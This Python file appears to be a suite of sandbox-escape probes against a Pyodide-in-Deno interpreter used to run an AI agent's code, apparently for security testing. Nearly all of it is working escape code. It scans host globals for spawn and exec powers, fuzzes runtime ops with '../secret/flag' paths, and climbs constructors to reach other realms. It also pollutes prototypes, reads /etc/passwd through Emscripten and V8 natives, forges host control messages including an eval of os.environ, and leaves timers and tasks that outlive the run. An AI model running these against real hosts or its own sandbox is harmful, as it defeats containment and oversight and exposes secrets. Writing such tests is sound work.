# Programs that go from Python to JavaScript, and from there to the program that embeds them.

# %% the global scope
# Looks for objects with powers of the host in the global scope, in everything that hangs on it.
# Source: the escapes of Pyodide from Node (CVE-2025-68668, CVE-2026-5752)
tries(lambda: js("""() => {
    const seen = new Set(), out = [], queue = [[globalThis, 'globalThis', 0]];
    for (let at = 0; at < queue.length && at < 3000; at++) {
        const [thing, path, depth] = queue[at];
        if (thing === null || !['object', 'function'].includes(typeof thing) || seen.has(thing) || depth > 5 || ArrayBuffer.isView(thing)) continue;
        try { if (thing.length > 5000) continue; } catch { continue; }
        seen.add(thing);
        for (const key of Reflect.ownKeys(thing)) {
            let value;
            try { value = thing[key]; } catch { continue; }
            const name = path + '.' + String(key);
            if (typeof value === 'string' && value.includes('FLAG{')) out.push(name + '=' + value);
            if (/readFile|spawn|exec$|execSync|openSync|env$|core$|ops$|dlopen|connect/.test(String(key))) out.push(name);
            if (queue.length < 3000) queue.push([value, name, depth + 1]);
        }
        queue.push([Object.getPrototypeOf(thing), path + '.__proto__', depth + 1]);
    }
    return out.join('\\n');
}""")())

# %% the operations of deno_core
# Looks for the operations by which the runtime asks the host, and calls what it finds.
import gc, time
from pyodide.ffi import JsProxy
gc.unfreeze()
for code in ("Deno.core.ops", "__bootstrap.core.ops", "globalThis.__infra", "Deno[Deno.internal]", "globalThis[Symbol.for('Deno.internal')]", "(0, eval)('core.ops')", "Object.getOwnPropertySymbols(globalThis).map(s => globalThis[s])"):
    tries(lambda: js(code))
held = [thing for holder in gc.get_objects() for thing in gc.get_referents(holder) if isinstance(thing, JsProxy)]
arguments = [(), (T.file,), (0, T.file, 1), (0, "../secret/flag", 1), (2**32, T.file), (URL,), ("memory", "{}"), (b"x" * 100,)]
until = time.monotonic() + 3
for thing in held:
    if thing.typeof == "function" and thing.name != "is_kept" and time.monotonic() < until:
        for given in arguments:
            try:
                result = thing(*given)
                if T.prefix in str(result):
                    said(result)
            except BaseException:
                pass
print(len(held))

# %% modules
# Imports modules of files, URLs, and the runtime's own, from JavaScript.
names = ["file://" + T.file, T.file, URL, "node:fs", "node:child_process", "npm:x", "jsr:@std/fs", "ext:core/ops", "ext:core/mod.js", "ext:isolet/glue.js", "data:text/javascript,export default Deno", "blob:x", "./x.js", "https://example.com/x.js"]
await tries_async(*[(lambda name=name: js("async (n) => Object.keys(await import(n)).join()", name)) for name in names])
await tries_async(*[(lambda name=name: js("async (n) => (await import(n, {with: {type: 'json'}})).default", name)) for name in names])
tries(lambda: js("importScripts('file:///etc/passwd')"), lambda: js("require('fs')"), lambda: js("import.meta.url"))

# %% constructors of another realm
# Climbs from objects of the host to constructors with more powers.
# Source: the escapes of vm2 and SandboxJS (CVE-2026-26956 and others)
climb = "('return [typeof Deno, typeof process, typeof require, typeof core, typeof __bootstrap].join() + Object.keys(this)')()"
tries(*[(lambda code=code: js(code + climb)) for code in (
    "Function", "fetch.constructor", "pyodide.constructor.constructor", "pyodide._api.constructor.constructor",
    "pyodide._module.constructor.constructor", "(async () => {}).constructor.constructor", "console.log.constructor",
    "crypto.getRandomValues.constructor", "Reflect.getPrototypeOf(function*(){}).constructor.constructor",
    "WebAssembly.Module.constructor", "new Proxy(Function, {})", "Reflect.construct.constructor",
)])
tries(
    lambda: js("new ShadowRealm().evaluate('typeof Deno')"),
    lambda: js("Error.captureStackTrace(globalThis); Error.prepareStackTrace = (e, f) => f.map(s => String(s.getFunction?.()) + s.getFileName()).join(); new Error().stack"),
    lambda: js("try { null.x } catch (e) { e.constructor.constructor('return typeof Deno')() }"),
    lambda: js("fetch.caller + fetch.arguments"),
    lambda: js("structuredClone(fetch)"),
)

# %% polluted prototypes
# Replaces built-in functions, so that the host's own code runs the program's in their place.
# Source: the escape of DSPy's interpreter by `toJSON` (stanfordnlp/dspy, pull request 10208)
js("""
globalThis.seen = [];
const spy = (object, name) => {
    const before = object[name];
    try {
        object[name] = function (...given) {
            try { globalThis.seen.push(name + String(this).slice(0, 200) + given.map(g => { try { return JSON.stringify(g) } catch { return String(g) } }).join().slice(0, 500)); } catch {}
            return before.apply(this, given);
        };
    } catch {}
};
for (const object of [Array.prototype, Object.prototype, Promise.prototype, Map.prototype, String.prototype, Uint8Array.prototype.__proto__, TextDecoder.prototype, TextEncoder.prototype])
    for (const name of Object.getOwnPropertyNames(object))
        if (!['constructor', 'push', 'slice', 'toString', 'join', 'map'].includes(name)) { let f; try { f = object[name] } catch {} if (typeof f === 'function') spy(object, name); }
Object.prototype.toJSON = function () { return {tool: 'memory', name: 'memory', text: 'x'}; };
Object.prototype.then = undefined;
""")
tries(lambda: echo(text="x"), lambda: open("/data/notes.txt").read(), lambda: echo("memory"))
await tries_async(lambda: js("fetch('http://127.0.0.1:1/')"))
tries(lambda: js("() => globalThis.seen.filter(s => s.includes('FLAG{')).join()")(), lambda: js("globalThis.seen.length"))

# %% a debugger
# Asks for the inspector, natives, snapshots of the heap and the flags of V8.
tries(*[(lambda code=code: js(code)) for code in (
    "debugger", "%DebugPrint(globalThis)", "%GetOptimizationStatus(eval)", "gc()", "d8.file.read('/etc/passwd')", "read('/etc/passwd')", "load('/etc/passwd')", "os.system('env')",
    "inspector.url()", "console.profile()", "performance.memory", "performance.measureUserAgentSpecificMemory()", "process.setFlagsFromString('--allow-natives-syntax')",
    "v8.writeHeapSnapshot()", "console.memory", "new FinalizationRegistry(() => {}).register({}, 1)", "new WeakRef({}).deref()", "console.dir(globalThis)", 
)])

# %% Emscripten's own powers
# Uses the runtime of the interpreter: its loaders, script runner, environment and exports.
# Source: the escape of Pyodide by ctypes (CVE-2026-24002)
import ctypes
libc = ctypes.CDLL(None)
run = getattr(libc, "emscripten_run_script_string", None)
if run:
    run.restype = ctypes.c_char_p
tries(
    lambda: run(b"typeof Deno + typeof process + Object.keys(globalThis).join()"),
    lambda: libc.emscripten_run_script(b"globalThis.x = Deno.readTextFileSync('/etc/passwd')"),
    lambda: js("Object.keys(pyodide._module).join()"),
    lambda: js("(f) => pyodide._module.readAsync(f)", T.file),
    lambda: js("(f) => pyodide._module.readBinary(f)", T.file),
    lambda: js("(f) => pyodide._module.loadDynamicLibrary(f, {loadAsync: false})", T.file),
    lambda: js("pyodide._module.locateFile('x')"),
    lambda: js("pyodide._module.ENV"),
    lambda: js("Object.keys(pyodide._module.wasmImports ?? pyodide._module.asmLibraryArg ?? {}).join()"),
    lambda: js("(f) => pyodide._module.preloadFile?.('/tmp', 'x', f, true, false)", "file://" + T.file),
    lambda: js("(f) => pyodide._api.sitePackages + pyodide._api.config.indexURL + JSON.stringify(pyodide._api.config)", ""),
)

# %% calls under other names
# Calls tools that it was not given, by names and arguments that a dispatcher may confuse.
# Source: SandboxBench: escape by the tools of an agent
import gc
from pyodide.ffi import JsProxy
names = ["memory", "session", "process_list", "__class__", "echo\0memory", "../memory", "echo.memory", "Echo", "ｅcho", "", "x" * 10_000, "constructor", "__proto__", "toString"]
def call(function, name):
    return function(name, {"text": "x"})
tries(*[(lambda name=name: globals()[name]("x")) for name in names])
tries(lambda: echo.__globals__.keys(), lambda: echo.__closure__, lambda: echo.__wrapped__, lambda: vars(echo))
gc.unfreeze()
held = [thing for holder in gc.get_objects() for thing in gc.get_referents(holder) if isinstance(thing, JsProxy) and thing.typeof == "function"]
for function in held:
    for name in names[:10]:
        for given in ((name,), (name, "{}"), (1, name, b"{"), (name, [], {})):
            try:
                result = function(*given)
                if T.prefix in str(result):
                    said(result)
            except BaseException:
                pass
tries(lambda: echo(text="{0.__class__}"), lambda: echo(text="${process.env}"), lambda: echo(**{"text": "x", "tool": "memory"}), lambda: echo(text=T))

# %% forged reports
# Prints, raises and returns what looks like a message of the worker or of the host.
# Source: the control channels of DSPy and others (stanfordnlp/dspy, pull requests 10165 and 10190)
import json, os, struct, sys
for line in ({"jsonrpc": "2.0", "id": 1, "method": "tool", "params": {"name": "memory"}}, {"tool": "memory", "args": {}}, {"returned": "", "ended": "completed"}, {"Request": {"File": {"Open": {"mount": 0, "path": "../secret/flag"}}}}):
    print(json.dumps(line))
    sys.stderr.write(json.dumps(line) + "\n")
frame = b"\x02\x05\x01\x00\x0e../secret/flag\x01"
for descriptor in range(16):
    tries(lambda: os.write(descriptor, struct.pack("<Q", len(frame)) + frame), lambda: os.read(descriptor, 4096) if descriptor else b"")
class Deadline(BaseException):
    __module__ = "isolet"
tries(lambda: (_ for _ in ()).throw(Deadline(T.prefix)))
class Value:
    def __reduce__(self):
        return (eval, ("__import__('os').environ",))
    def __repr__(self):
        return "{0.__init__.__globals__}" + "\x1b]0;x\x07"
Value()

# %% promises and timers that outlive the run
# Leaves tasks, timers, hooks and threads behind that look for flags after the run.
import asyncio, atexit, threading, time, weakref
async def later():
    while True:
        await asyncio.sleep(0.01)
        try:
            print(open(T.file).read())
        except OSError:
            print("still nothing")
task = asyncio.ensure_future(later())
atexit.register(lambda: print(open(T.file).read()))
weakref.finalize(task, lambda: print(open(T.file).read()))
threading.Thread(target=lambda: time.sleep(60), daemon=True).start()
js("""(u) => {
    const tick = () => { fetch(u).catch(() => {}); setTimeout(tick, 5); };
    tick();
}""", URL)
await asyncio.sleep(0.2)
